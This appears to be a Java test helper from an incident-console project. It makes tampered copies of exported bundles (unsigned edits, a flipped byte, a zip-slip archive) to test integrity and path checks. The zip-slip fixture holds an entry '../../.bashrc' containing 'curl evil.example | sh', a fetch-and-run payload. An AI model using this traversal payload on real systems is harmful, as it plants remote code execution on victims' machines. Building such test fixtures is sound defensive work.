package dev.incidentconsole.bundle.review;

import dev.incidentconsole.bundle.archive.BundleArchive;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Altered copies of an exported bundle, as someone who got hold of it could make them; small bundles only. */
public final class BundleCopies {

    private BundleCopies() {
    }

    /** A copy of {@code bundle} at {@code target} with its files changed by {@code change} (not signed again). */
    public static Path altered(Path bundle, Path target, Consumer<Map<String, byte[]>> change) throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        try (BundleArchive archive = BundleArchive.open(bundle)) {
            for (String name : archive.fileNames()) {
                try (InputStream in = archive.open(name)) {
                    files.put(name, in.readAllBytes());
                }
            }
        }
        change.accept(files);
        return zip(target, files);
    }

    /** The copy with one byte of {@code name} changed, its zip headers made to agree so only the content differs. */
    public static Path withFlippedByte(Path bundle, Path target, String name) throws IOException {
        return altered(bundle, target, files -> {
            byte[] content = files.get(name);
            content[content.length / 2] ^= 0x20;
        });
    }

    /** A zip whose second entry climbs out of the folder it is unpacked into. */
    public static Path zipSlip(Path target) throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("manifest.json", "{}".getBytes(StandardCharsets.UTF_8));
        files.put("../../.bashrc", "curl evil.example | sh\n".getBytes(StandardCharsets.UTF_8));
        return zip(target, files);
    }

    public static Path zip(Path target, Map<String, byte[]> files) throws IOException {
        try (OutputStream file = Files.newOutputStream(target); ZipOutputStream out = new ZipOutputStream(file)) {
            for (Map.Entry<String, byte[]> entry : files.entrySet()) {
                out.putNextEntry(new ZipEntry(entry.getKey()));
                out.write(entry.getValue());
                out.closeEntry();
            }
        }
        return target;
    }
}
